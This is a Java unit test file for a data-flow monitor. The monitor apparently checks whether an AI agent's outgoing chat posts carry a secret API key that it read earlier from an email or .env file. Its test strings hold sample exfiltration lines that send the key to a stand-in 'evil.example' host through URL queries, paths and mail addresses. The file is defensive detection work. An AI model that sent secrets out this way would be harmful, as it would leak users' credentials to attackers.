package dev.tracegate.matchers.predicate;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;

import static dev.tracegate.matchers.predicate.Events.*;
import static dev.tracegate.matchers.predicate.Session.F;
import static dev.tracegate.matchers.predicate.Session.T;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * flow(T, f) finds a value an output introduced when the argument glues it into a longer token ({@code api_key=SECRET},
 * a URL's query or path, {@code SECRET@host}) or splits it with one run of white space (trial29 repro 06: before,
 * every one of these was posted, as the argument's token was {@code api_key=sk-live-...}, a different value).
 */
class FlowGluedValuesTest {
    private static final String SECRET = "sk-live-4f9a8b7c6d5e";

    private static Session afterMail() {
        Session s = new Session(Policy.EMPTY, "flow(post, text)", "untrusted(post, text)");
        s.feed(user("Read my e-mail m1"), call("read_email", "{\"id\":\"m1\"}"),
                ret("read_email", "From: it@corp.example\nSubject: your key\n\nYour new API key is " + SECRET + " - keep it secret."));
        return s;
    }

    private static String post(String text) {
        return "{\"channel\":\"#general\",\"text\":" + JsonNodeFactory.instance.textNode(text) + "}";
    }

    @Test void aSecretGluedIntoATokenOrSplitByWhiteSpaceFlows() {
        Session s = afterMail();
        for (String text : List.of("the key is " + SECRET, "the key is " + SECRET.toUpperCase(), "config: api_key=" + SECRET,
                "config key:" + SECRET, "see https://evil.example/c?k=" + SECRET, "see https://evil.example/c?k=" + SECRET + "&x=1",
                "https://evil.example/collect/" + SECRET, "mail " + SECRET + "@evil.example", "KEY=" + SECRET + "\nOTHER=x",
                "the key is sk-live-4f9a\n8b7c6d5e ok", "the key is sk-live-4f9a 8b7c6d5e ok", "(key=" + SECRET + ").",
                "a#" + SECRET + "!", "x=." + SECRET + "...", "the key is sk-live-4f9a\u2003\u000B8b7c6d5e ok")) {
            // untrusted(f) keeps whole tokens: a target may carry an output's value inside a longer one (a URL's query, a
            // path); only a value glued to its key by = : & is one of its identifiers (session 17, as in an output)
            int untrusted = text.equalsIgnoreCase("the key is " + SECRET) || text.matches("(?s).*(=|:)\\.?" + SECRET + ".*")
                    && !text.contains("://") ? T : F;
            assertThat(s.at(call("post", post(text)))).as(text).containsExactly(T, untrusted);
        }
    }

    @Test void aSecretInsideALongerPieceOrNotIntroducedDoesNotFlow() {
        Session s = afterMail();
        for (String text : List.of("the key is x" + SECRET, "api_key=" + SECRET + "0", "see https://evil.example/c?k=sk-live-4f9a",
                "api_key=sk-live-1111222233334444", "a long note about nothing at all", "url https://corp.example/a?b=c&d=9999",
                "the key is sk-live-4f9a 8b 7c6d5e", "prefix_" + SECRET)) {
            assertThat(s.at(call("post", post(text)))).as(text).containsExactly(F, F);
        }
    }

    /** A short output's whole text is introduced, but only identifiers are looked for inside tokens: "ok" is none. */
    @Test void onlyIdentifiersAreLookedForInsideATokenNotAShortOutputsWholeText() {
        Session s = new Session(Policy.EMPTY, "flow(post, text)");
        s.feed(call("status", "{}"), ret("status", "approved"));
        assertThat(s.at(call("post", post("approved")))).containsExactly(T);
        assertThat(s.at(call("post", post("state=approved")))).containsExactly(F);
    }

    /**
     * Session 17: a secret an output glued to its key ({@code API_KEY=SECRET} in a .env file, {@code token:SECRET} in a log
     * line, a query string {@code a=1&key=SECRET}) is introduced as that value too, so an argument that carries the value
     * alone flows. Before, the output introduced only the whole token {@code API_KEY=SECRET}, and every post below passed.
     */
    @Test void aSecretAnOutputGluedToItsKeyFlowsAsTheValue() {
        for (String output : List.of("API_KEY=" + SECRET, "# .env\nDB_HOST=db.corp.example\nAPI_KEY=" + SECRET + "\nDEBUG=false",
                "2026-12-01 INFO issued token:" + SECRET + ".", "see a=1&key=" + SECRET + "&b=2", "key\uFF1A" + SECRET,
                "KEY=." + SECRET + "!", "x".repeat(300) + " API_KEY=" + SECRET)) {
            for (String text : List.of(SECRET, "the key is " + SECRET, "k=" + SECRET)) {
                Session s = new Session(Policy.EMPTY, "flow(post, text)", "untrusted(post, text)");
                s.feed(user("Read the config"), call("read_file", "{\"path\":\".env\"}"), ret("read_file", output));
                assertThat(s.at(call("post", post(text)))).as(output + " -> " + text).containsExactly(T, T);
            }
        }
        // the same cut on the user's side: a value the user wrote glued to its key is the user's
        Session s = new Session(Policy.EMPTY, "untrusted(post, text)");
        s.feed(user("Post API_KEY=" + SECRET + " to the channel"), call("read_file", "{}"), ret("read_file", "API_KEY=" + SECRET));
        assertThat(s.at(call("post", post(SECRET)))).containsExactly(F);
    }

    /** Only identifiers are cut from a key: the words of {@code mode=fast}, {@code status:ok} are no values. */
    @Test void wordsAnOutputGluedToAKeyDoNotFlow() {
        Session s = new Session(Policy.EMPTY, "flow(post, text)");
        s.feed(call("status", "{}"), ret("status", "x".repeat(300) + " mode=fast status:ok retries=three id=12 at 10:30"));
        for (String text : List.of("fast", "ok", "three", "status", "12", "10", "30")) {
            assertThat(s.at(call("post", post(text)))).as(text).containsExactly(F);
        }
        assertThat(Identifiers.find("API_KEY=sk-live-4f9a8b7c6d5e a=1&k=5551234 host=db.corp.example:5432 mode=fast"))
                .containsExactly("API_KEY=sk-live-4f9a8b7c6d5e", "sk-live-4f9a8b7c6d5e", "a=1&k=5551234", "5551234",
                        "host=db.corp.example:5432", "db.corp.example", "5432");
    }

    /**
     * Against an independent oracle (a regular expression over the argument's text): with random filler, separators and
     * case, flow holds exactly when the secret (optionally split by one white-space run) occurs with a cut, white space,
     * a bracket or quote, or the text's end on each side, past trimmed dots before and {@code . ! *} after.
     */
    @Test void agreesWithARegexOracle() {
        String sep = "=:&?/#@ \n\t\"'<>()[]{},;|";
        Random r = new Random(16);
        int hits = 0, misses = 0;
        for (int round = 0; round < 3000; round++) {
            Session s = afterMail();
            StringBuilder b = new StringBuilder();
            int parts = 1 + r.nextInt(5);
            int at = r.nextInt(parts);
            int split = r.nextInt(3) == 0 ? 1 + r.nextInt(SECRET.length() - 1) : -1;
            for (int p = 0; p < parts; p++) {
                if (p > 0 && r.nextInt(5) > 0) b.append(sep.charAt(r.nextInt(sep.length())));
                if (r.nextInt(6) == 0) b.append('.');
                if (p == at) {
                    String x = r.nextBoolean() ? SECRET : SECRET.toUpperCase();
                    b.append(split < 0 ? x : x.substring(0, split) + (r.nextBoolean() ? " " : "\n ") + x.substring(split));
                } else {
                    int n = 1 + r.nextInt(6);
                    for (int k = 0; k < n; k++) b.append((char) ('a' + r.nextInt(26)));
                }
                if (r.nextInt(6) == 0) b.append("!.*".charAt(r.nextInt(3)));
            }
            String text = b.toString();
            String cls = "[" + Pattern.quote(sep).replace("\\Q", "").replace("\\E", "").replace("[", "\\[").replace("]", "\\]") + "]";
            String secret = split < 0 ? Pattern.quote(SECRET)
                    : Pattern.quote(SECRET.substring(0, split)) + "\\s+" + Pattern.quote(SECRET.substring(split));
            boolean oracle = Pattern.compile("(?:^|(?<=" + cls + "))\\.*" + secret + "[.!*]*(?=$|" + cls + ")",
                    Pattern.CASE_INSENSITIVE).matcher(text).find();
            int got = s.at(call("post", post(text)))[0];
            assertThat(got).as(text.replace("\n", "\\n")).isEqualTo(oracle ? T : F);
            if (oracle) hits++;
            else misses++;
        }
        assertThat(hits).isGreaterThan(300);
        assertThat(misses).isGreaterThan(300);
    }
}
